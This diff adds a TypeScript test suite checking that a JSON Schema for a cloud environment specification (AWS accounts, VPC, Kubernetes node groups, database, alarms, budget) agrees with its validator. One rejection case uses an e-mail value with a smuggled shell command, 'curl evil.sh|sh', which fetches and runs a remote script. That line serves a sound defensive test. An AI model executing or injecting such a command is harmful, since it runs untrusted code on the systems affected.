@@ -1,0 +1,183 @@
+// ajv is not a dependency of this package: it is in the repository through
+// @backstage/cli, and only this test reads it.
+// eslint-disable-next-line @backstage/no-undeclared-imports
+import Ajv2020 from 'ajv/dist/2020';
+import { environmentSpecJsonSchema } from './jsonSchema';
+import { SEED_ENVIRONMENT_INPUT } from './schema';
+import { validateEnvironmentSpec } from './validate';
+
+const ajv = new Ajv2020({ allErrors: true, strict: true });
+const validate = ajv.compile(environmentSpecJsonSchema());
+
+/** Every field given, none defaulted: what a caller that spells it all out sends. */
+const complete = {
+  name: 'innovate-test',
+  accounts: { management: '111111111111', workloads: '222222222222' },
+  region: 'eu-west-1',
+  network: { vpcCidr: '10.1.0.0/20', azCount: 2, natGateways: 1 },
+  cluster: {
+    kubernetesVersion: '1.34',
+    systemNodeGroup: {
+      instanceType: 'm7g.large',
+      minSize: 1,
+      desiredSize: 2,
+      maxSize: 4,
+    },
+    applicationNodeGroup: {
+      instanceType: 't3.large',
+      minSize: 2,
+      desiredSize: 3,
+      maxSize: 10,
+    },
+    hpa: { minReplicas: 1, maxReplicas: 50 },
+  },
+  database: {
+    engineVersion: '16',
+    instanceClass: 'db.t4g.medium',
+    allocatedStorageGb: 20,
+    storageType: 'gp2',
+    multiAz: true,
+    backupRetentionDays: 35,
+  },
+  domain: {
+    name: 'app.innovate.example',
+    certificateArn:
+      'arn:aws:acm:us-east-1:123456789012:certificate/0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d',
+  },
+  alarms: {
+    errorRatePercent: 0.5,
+    p99LatencySeconds: 1.5,
+    nodeCpuPercent: 70,
+    nodeMemoryPercent: 75,
+    databaseCpuPercent: 60,
+  },
+  budget: { monthlyUsd: 1200.5, alertEmail: 'ops+alerts@sub.example.co' },
+};
+
+type Json = Record<string, any>;
+
+function objectsIn(schema: Json, path = '(root)'): Array<[string, Json]> {
+  if (schema.type !== 'object') {
+    return [];
+  }
+  return [
+    [path, schema],
+    ...Object.entries(schema.properties as Json).flatMap(([key, child]) =>
+      objectsIn(child, path === '(root)' ? key : `${path}.${key}`),
+    ),
+  ];
+}
+
+describe('environmentSpecJsonSchema', () => {
+  it('is plain JSON in draft 2020-12', () => {
+    const schema = environmentSpecJsonSchema();
+    expect(JSON.parse(JSON.stringify(schema))).toEqual(schema);
+    expect(schema.$schema).toBe('https://json-schema.org/draft/2020-12/schema');
+  });
+
+  it.each([
+    ['the seed input', SEED_ENVIRONMENT_INPUT],
+    ['a spec with every field', complete],
+  ])('accepts %s, as the validator does', (_, input) => {
+    expect(validateEnvironmentSpec(input).ok).toBe(true);
+    expect(validate(input)).toBe(true);
+    expect(validate.errors ?? []).toEqual([]);
+  });
+
+  it('closes every object and requires exactly the fields without a default', () => {
+    const objects = Object.fromEntries(
+      objectsIn(environmentSpecJsonSchema()).map(([path, schema]) => [
+        path,
+        { required: schema.required, closed: schema.additionalProperties },
+      ]),
+    );
+    expect(objects).toEqual({
+      '(root)': { required: ['name', 'accounts', 'budget'], closed: false },
+      accounts: { required: ['management', 'workloads'], closed: false },
+      network: { required: undefined, closed: false },
+      cluster: { required: undefined, closed: false },
+      'cluster.systemNodeGroup': { required: undefined, closed: false },
+      'cluster.applicationNodeGroup': { required: undefined, closed: false },
+      'cluster.hpa': { required: undefined, closed: false },
+      database: { required: undefined, closed: false },
+      domain: { required: ['name'], closed: false },
+      alarms: { required: undefined, closed: false },
+      budget: { required: ['alertEmail'], closed: false },
+    });
+  });
+
+  it.each<[string, Json, string]>([
+    ['an unknown top-level key', { ...complete, owner: 'x' }, ''],
+    [
+      'an unknown nested key',
+      { ...complete, network: { ...complete.network, natGateway: 1 } },
+      '/network',
+    ],
+    ['a missing required field', { ...complete, name: undefined }, ''],
+    ['a name with upper case', { ...complete, name: 'Innovate' }, '/name'],
+    ['an unsupported region', { ...complete, region: 'mars-1' }, '/region'],
+    [
+      'a fractional AZ count',
+      { ...complete, network: { ...complete.network, azCount: 2.5 } },
+      '/network/azCount',
+    ],
+    [
+      'an account id as a number',
+      { ...complete, accounts: { ...complete.accounts, workloads: 2 } },
+      '/accounts/workloads',
+    ],
+    [
+      'too little storage',
+      {
+        ...complete,
+        database: { ...complete.database, allocatedStorageGb: 10 },
+      },
+      '/database/allocatedStorageGb',
+    ],
+    [
+      'a hostile e-mail address',
+      { ...complete, budget: { alertEmail: 'a@b.com;curl evil.sh|sh' } },
+      '/budget/alertEmail',
+    ],
+  ])('rejects %s, as the validator does', (_, input, instancePath) => {
+    const parsed = JSON.parse(JSON.stringify(input));
+    expect(validateEnvironmentSpec(parsed).ok).toBe(false);
+    expect(validate(parsed)).toBe(false);
+    expect(validate.errors?.map(error => error.instancePath)).toContain(
+      instancePath,
+    );
+  });
+
+  it('never rejects a spec the validator accepts (one field changed at a time)', () => {
+    const values = [
+      ...[undefined, null, true, 'x', '', 0, 1, 2, 2.5, 3, 4, 20, 35, 99, 101],
+      ...['10.0.0.0/22', '10.0.0.0/23', '192.168.0.0/16', 'us-west-1'],
+      ...['1.32', '17', 'gp3', 't3a.large', 'db.t3.micro', 'abc'],
+    ];
+    const leaves = (value: Json, path: string[] = []): string[][] =>
+      Object.entries(value).flatMap(([key, child]) =>
+        typeof child === 'object' && child !== null
+          ? [[...path, key], ...leaves(child, [...path, key])]
+          : [[...path, key]],
+      );
+    const disagreements: string[] = [];
+    let accepted = 0;
+    for (const path of leaves(complete)) {
+      for (const value of values) {
+        const input = JSON.parse(JSON.stringify(complete));
+        const parent = path
+          .slice(0, -1)
+          .reduce((object, key) => object[key], input);
+        parent[path[path.length - 1]] = value;
+        const spec = JSON.parse(JSON.stringify(input));
+        const ok = validateEnvironmentSpec(spec).ok;
+        accepted += ok ? 1 : 0;
+        if (ok && !validate(spec)) {
+          disagreements.push(`${path.join('.')} = ${JSON.stringify(value)}`);
+        }
+      }
+    }
+    expect(accepted).toBeGreaterThan(100);
+    expect(disagreements).toEqual([]);
+  });
+});
